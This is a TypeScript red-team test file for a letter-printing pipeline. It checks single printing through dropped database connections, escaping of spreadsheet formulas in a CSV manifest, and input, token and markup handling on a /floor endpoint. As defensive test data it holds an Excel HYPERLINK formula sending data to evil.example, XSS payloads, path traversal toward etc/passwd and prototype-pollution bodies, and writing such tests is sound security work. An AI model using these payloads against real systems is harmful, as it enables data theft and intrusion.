// The floor's rules (PRINTER=batch, /floor): a file printed once through dropped connections and a
// second worker, manifest cells Excel cannot run, a retried letter its batch prints, and /floor
// trusting no input.
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect } from 'vitest'
import { parse } from 'csv-parse/sync'
import { and, eq, inArray } from 'drizzle-orm'
import { letterEvents, letters, printBatches, printBatchHandoffs, printBatchLetters, type LetterStatus } from '@letters/db'
import { markFailed } from '@letters/production-worker/produce-letter'
import { printsIn } from '@letters/test/support/floor-processes'
import { ADMIN_TOKEN, terminateClientBackends } from '@letters/test/support/context'
import { startProductionWorker } from '@letters/production-worker/worker'
import { silentLog, startPipeline, type Pipeline, type PipelineOptions } from '@letters/test/support/pipeline'
import type { App } from '@letters/gateway/server'
import { singleLetter } from '@letters/test/support/factories'
import { it as base } from '@letters/test/support/fixtures'
import type { Account, PublicClient } from '@letters/test/support/gateway'

const FLOOR_TOKEN = 'floor-token-redteam-0123456789'

type StartOwnPipeline = (label: string, options?: Omit<PipelineOptions, 'label'>) => Promise<Pipeline>

/** Starts a pipeline of the test's own (each fault test wants other options), closed once the test has finished. */
const it = base.extend('startOwnPipeline', ({ onTestFinished }): StartOwnPipeline => {
  return async (label, options = {}) => {
    const pipeline = await startPipeline(label, options)
    onTestFinished(() => pipeline.close())
    return pipeline
  }
})

// The held attacks' gateway: the floor open, and only five failed authentications per address.
it.override({ gatewayOptions: { isolate: 'rt-floor', env: { FLOOR_TOKEN, AUTH_FAILURES_MAX: '5' } }, accountCredits: 200 })

let floorDir: string | undefined
afterEach(async () => {
  if (floorDir) await rm(floorDir, { recursive: true, force: true })
})

/**
 * Three letters in a batch whose envelopes take the printer 4 s; every backend is terminated while
 * the printer has them. With `secondWorker`, another production worker (its closer running every
 * 0.2 s) is there to take the batch over. Resolves with how often each file was printed.
 */
async function dropWhileEnvelopesPrint(
  startOwnPipeline: StartOwnPipeline,
  label: string,
  options: { secondWorker: boolean },
): Promise<{ prints: number[]; handoffs: number }> {
  floorDir = await mkdtemp(join(tmpdir(), `letters-${label}-`))
  const log = join(floorDir, 'prints.log')
  const pipeline = await startOwnPipeline(label, {
    env: {
      PRINTER: 'batch',
      BATCH_MAX_LETTERS: '3',
      BATCH_MAX_WAIT_MS: '2000',
      PRINT_COMMAND: `case {file} in *.envelopes.pdf) sleep 4;; esac; echo {file} >> '${log}'`,
    },
  })
  const second = options.secondWorker ? startProductionWorker({ config: pipeline.config, db: pipeline.app.db, log: silentLog }) : undefined
  try {
    const db = pipeline.app.db
    await Promise.all([0, 1, 2].map((n) => pipeline.send({ name: `Cliente ${n}` })))
    await expect.poll(async () => (await db.select().from(printBatchHandoffs)).length, { timeout: 40_000, interval: 20 }).toBe(1)
    await new Promise((resolve) => setTimeout(resolve, 300))
    expect(await terminateClientBackends(pipeline.config.databaseUrl)).toBeGreaterThan(0)
    const statuses = async () =>
      (
        await db
          .select({ status: printBatches.status })
          .from(printBatches)
          .catch(() => [])
      ).map((b) => b.status)
    await expect.poll(statuses, { timeout: 30_000, interval: 100 }).toEqual(['handed'])
    return { prints: [...(await printsIn(log)).values()], handoffs: (await db.select().from(printBatchHandoffs)).length }
  } finally {
    await second?.close()
  }
}

describe('a batch closer whose connection drops while the printer has a file prints it once', () => {
  it(
    'prints each of the three files once when every backend is terminated while the envelopes are at the printer',
    { timeout: 60_000 },
    async ({ startOwnPipeline }) => {
      // The closer's next round comes 0.4 s after a failed one (BATCH_MAX_WAIT_MS / 10, doubled):
      // before the fix it found the lock free and the envelopes unrecorded (their record's row went
      // with the connection) and printed them again while the first print was still going.
      await expect(dropWhileEnvelopesPrint(startOwnPipeline, 'rtcloser', { secondWorker: false })).resolves.toEqual({ prints: [1, 1, 1], handoffs: 3 })
    },
  )
})

describe('with a second worker, its closer does not take the batch over nor print the file again', () => {
  it('prints each file once when the backends are terminated mid-print with two workers closing batches', { timeout: 60_000 }, async ({ startOwnPipeline }) => {
    // Before the fix, the second worker's closer took the lock the first one lost with its
    // connection and printed the envelopes the printer still had.
    await expect(dropWhileEnvelopesPrint(startOwnPipeline, 'rtcloser2', { secondWorker: true })).resolves.toEqual({ prints: [1, 1, 1], handoffs: 3 })
  })
})

describe('a recipient name starting with = is text, not a formula, in the manifest the floor opens in Excel', () => {
  it(
    'writes client text that Excel would run (= + - @) with a leading apostrophe, and nothing else changed',
    { timeout: 60_000 },
    async ({ startOwnPipeline }) => {
      const pipeline = await startOwnPipeline('rtmanifest', { env: { PRINTER: 'batch', BATCH_MAX_LETTERS: '3', BATCH_MAX_WAIT_MS: '60000' } })
      const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Pulsa aquí")'
      const names = [formula, '@sum(1+1)', 'Lucía']
      await Promise.all(names.map((name, n) => pipeline.send({ name, surname: n === 2 ? '+34 600' : 'García' })))
      const db = pipeline.app.db
      await expect
        .poll(async () => (await db.select({ status: printBatches.status }).from(printBatches)).map((b) => b.status), { timeout: 40_000, interval: 100 })
        .toEqual(['handed'])
      const [batch] = await db.select({ id: printBatches.id }).from(printBatches).where(eq(printBatches.status, 'handed'))
      const csv = await readFile(join(pipeline.spoolDir, `batch-${batch!.id}.manifest.csv`))
      const rows = parse<Record<string, string>>(csv, { bom: true, columns: true })
      expect(rows.map((row) => row.name).sort()).toEqual([`'${formula} García`, "'@sum(1+1) García", 'Lucía +34 600'].sort())
      for (const row of rows) for (const column of ['name', 'zip', 'city', 'province', 'country']) expect(row[column]).not.toMatch(/^[=+\-@\t\r]/)
    },
  )
})

describe('an ops retry of a failed letter waiting in a tray leaves it printed with its batch, never stranded in ready_for_print and cancellable', () => {
  it(
    'leaves the batched letter to its batch: not cancellable, and printed when the batch is handed over',
    { timeout: 60_000 },
    async ({ startOwnPipeline }) => {
      const pipeline = await startOwnPipeline('rtretry', { env: { PRINTER: 'batch', BATCH_MAX_LETTERS: '2', BATCH_MAX_WAIT_MS: '60000' } })
      const db = pipeline.app.db
      const first = await pipeline.send({ name: 'Primera' })
      await expect
        .poll(async () => (await db.select().from(printBatchLetters).where(eq(printBatchLetters.letterId, first))).length, { timeout: 30_000 })
        .toBe(1)
      // Its job given up on while it waits in the tray (a worker killed too often: markFailed with any claim).
      expect(await markFailed(db, first, 3, 'any')).toBe(true)
      const retried = await pipeline.admin('POST', `/admin/cards/${first}/retry`)
      expect(retried.statusCode, retried.body).toBe(200)
      // Its card is in the batch: the client can no longer cancel it (and get its credits back).
      const cancel = await pipeline.client('DELETE', `/cards/${first}`)
      expect(cancel.statusCode, cancel.body).toBe(409)
      await pipeline.send({ name: 'Segunda' })
      await expect
        .poll(async () => (await db.select({ status: printBatches.status }).from(printBatches)).map((b) => b.status), { timeout: 30_000, interval: 100 })
        .toEqual(['handed'])
      await expect.poll(async () => (await pipeline.card(first)).status, { timeout: 10_000 }).toBe('printed')
    },
  )
})

describe('hostile input, tokens and markup on /floor', () => {
  let address = 0
  /** Each call from an address of its own: failed authentications are counted per address. */
  const floor = (gateway: App, method: 'GET' | 'POST', url: string, payload?: string | object, headers: Record<string, string> = {}) =>
    gateway.inject({
      method,
      url,
      remoteAddress: `198.51.100.${++address}`,
      headers: { authorization: `Bearer ${FLOOR_TOKEN}`, ...(typeof payload === 'string' ? { 'content-type': 'application/json' } : {}), ...headers },
      ...(payload === undefined ? {} : { payload }),
    })
  /** A letter sent with `client` (the live or the test key) and set to `status` by hand. */
  async function letterIn(gateway: App, account: Account, client: PublicClient, status: LetterStatus, overrides: Record<string, string> = {}) {
    const sent = await client.post('/single', singleLetter(account, overrides))
    expect(sent.statusCode, sent.body).toBe(200)
    const id = sent.json<{ cardId: string }>().cardId
    const [row] = await gateway.db.update(letters).set({ status }).where(eq(letters.id, id)).returning({ code: letters.code })
    return { id, code: row!.code }
  }
  const mailedEvents = async (gateway: App, ids: string[]) =>
    (
      await gateway.db
        .select({ id: letterEvents.letterId })
        .from(letterEvents)
        .where(and(inArray(letterEvents.letterId, ids), eq(letterEvents.status, 'mailed')))
    ).length

  it('refuses hostile scan bodies with 4xx and never a 500: huge, not JSON, arrays, NUL, lone surrogates, 10 KB codes', async ({
    gateway,
    account,
    client,
  }) => {
    const { code } = await letterIn(gateway, account, client, 'printed')
    const answers = await Promise.all([
      floor(gateway, 'POST', '/floor/scan', JSON.stringify({ code: 'A'.repeat(5_000_000) })),
      floor(gateway, 'POST', '/floor/scan', `code=${code}`, { 'content-type': 'application/x-www-form-urlencoded' }),
      floor(gateway, 'POST', '/floor/scan', JSON.stringify({ code }), { 'content-type': 'text/plain' }),
      floor(gateway, 'POST', '/floor/scan', JSON.stringify([{ code }])),
      floor(gateway, 'POST', '/floor/scan', JSON.stringify({ code: [code] })),
      floor(gateway, 'POST', '/floor/scan', '{"code":"X","__proto__":{"polluted":1}}'),
      floor(gateway, 'POST', '/floor/scan', JSON.stringify({ code: `${code}\u0000` })),
      floor(gateway, 'POST', '/floor/scan', JSON.stringify({ code: '\ud800' })),
      floor(gateway, 'POST', '/floor/scan', JSON.stringify({ code: 'A'.repeat(10_000) })),
    ])
    expect(answers.map((a) => a.statusCode)).toEqual([413, 415, 415, 400, 400, 400, 400, 400, 400])
    expect(await gateway.db.select({ status: letters.status }).from(letters).where(eq(letters.code, code))).toEqual([{ status: 'printed' }])
  })

  it('takes no look-alike for a code (fullwidth letters, Cyrillic О) and no test letter: 404, nothing mailed', async ({
    gateway,
    account,
    client,
    testClient,
  }) => {
    const live = await letterIn(gateway, account, client, 'printed')
    const test = await letterIn(gateway, account, testClient, 'printed')
    const fullwidth = [...live.code].map((char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0)).join('')
    const cyrillic = live.code.replace(/[0O]/g, 'О').replace(/^./, 'О')
    for (const code of [fullwidth, cyrillic, test.code, '   ', '\u200b'.repeat(10)])
      expect((await floor(gateway, 'POST', '/floor/scan', { code })).statusCode, code).toBe(404)
    expect(await mailedEvents(gateway, [live.id, test.id])).toBe(0)
  })

  it('marks 30 letters mailed once each under 100 concurrent scans: 30 answers 200, 70 answer 409, one mailed event each', async ({
    gateway,
    account,
    client,
  }) => {
    const printed = await Promise.all(Array.from({ length: 30 }, () => letterIn(gateway, account, client, 'printed')))
    const answers = await Promise.all(Array.from({ length: 100 }, (_, n) => floor(gateway, 'POST', '/floor/scan', { code: printed[n % 30]!.code })))
    expect(answers.filter((a) => a.statusCode === 200)).toHaveLength(30)
    expect(answers.filter((a) => a.statusCode === 409)).toHaveLength(70)
    expect(
      await mailedEvents(
        gateway,
        printed.map((p) => p.id),
      ),
    ).toBe(30)
  })

  it('lets a scan and a cancel of the same letter race: exactly one of them wins', async ({ gateway, account, client }) => {
    for (const status of ['printed', 'ready_for_print'] as const) {
      const letter = await letterIn(gateway, account, client, status)
      const [scan, cancel] = await Promise.all([floor(gateway, 'POST', '/floor/scan', { code: letter.code }), client.delete(`/cards/${letter.id}`)])
      expect(
        [scan.statusCode, cancel.statusCode].filter((s) => s === 200),
        status,
      ).toHaveLength(1)
      const [row] = await gateway.db.select({ status: letters.status }).from(letters).where(eq(letters.id, letter.id))
      expect(row!.status).toBe(status === 'printed' ? 'mailed' : 'cancelled')
    }
  })

  it('serves no file outside a batch: traversal and unknown kinds in :id and :kind are 404 or 400', async ({ gateway }) => {
    const urls = [
      '/floor/batches/..%2F..%2F..%2Fetc%2Fpasswd/files/cards',
      '/floor/batches/00000000-0000-4000-8000-000000000000/files/..%2F..%2Fpasswd',
      '/floor/batches/00000000-0000-4000-8000-000000000000/files/constructor',
      '/floor/batches/00000000-0000-4000-8000-000000000000/files/__proto__',
      '/floor/batches/%00/files/cards',
    ]
    for (const url of urls) expect([400, 404], url).toContain((await floor(gateway, 'GET', url)).statusCode)
  })

  it('opens /floor with the floor token only, and nothing else with it; Basic with any user, bad guesses throttled', async ({ gateway }) => {
    const basic = (credentials: string) => ({ authorization: `Basic ${Buffer.from(credentials).toString('base64')}` })
    expect((await floor(gateway, 'GET', '/floor', undefined, { authorization: `Bearer ${ADMIN_TOKEN}` })).statusCode).toBe(401)
    expect((await floor(gateway, 'GET', '/floor', undefined, basic(`:${ADMIN_TOKEN}`))).statusCode).toBe(401)
    for (const url of ['/admin/accounts', '/metrics']) expect((await floor(gateway, 'GET', url)).statusCode, url).toBe(401)
    expect((await floor(gateway, 'GET', '/floor', undefined, basic(`:${FLOOR_TOKEN}`))).statusCode).toBe(200)
    expect((await floor(gateway, 'GET', '/floor', undefined, basic(`planta:con:dos:${FLOOR_TOKEN}`))).statusCode).toBe(401)
    expect((await floor(gateway, 'GET', '/floor', undefined, { authorization: 'Basic %%%not-base64' })).statusCode).toBe(401)
    // Five wrong guesses from one address, then even the right token waits (429).
    const guess = (token: string) =>
      gateway.inject({ method: 'GET', url: '/floor', remoteAddress: '203.0.113.13', headers: { authorization: `Bearer ${token}` } })
    for (let n = 0; n < 5; n++) expect((await guess(`wrong-token-${n}-xxxxxxxxxxxx`)).statusCode).toBe(401)
    expect((await guess('wrong-token-5-xxxxxxxxxxxx')).statusCode).toBe(429)
    expect((await guess(FLOOR_TOKEN)).statusCode).toBe(429)
  })

  it('shows client markup as text on the page (a failed letter with HTML in its name and city)', async ({ gateway, account, client }) => {
    const evil = { name: '<img src=x onerror=alert(1)>', surname: '"><script>alert(2)</script>', city: '<svg onload=alert(3)>' }
    await letterIn(gateway, account, client, 'failed', evil)
    const page = await floor(gateway, 'GET', '/floor')
    expect(page.statusCode).toBe(200)
    expect(page.body).toContain('&#60;img src=x onerror=alert(1)&#62;')
    expect(page.body).not.toMatch(/<img src=x|<script>alert|<svg onload/)
    expect(page.headers['content-security-policy']).toContain("script-src 'self'")
  })
})
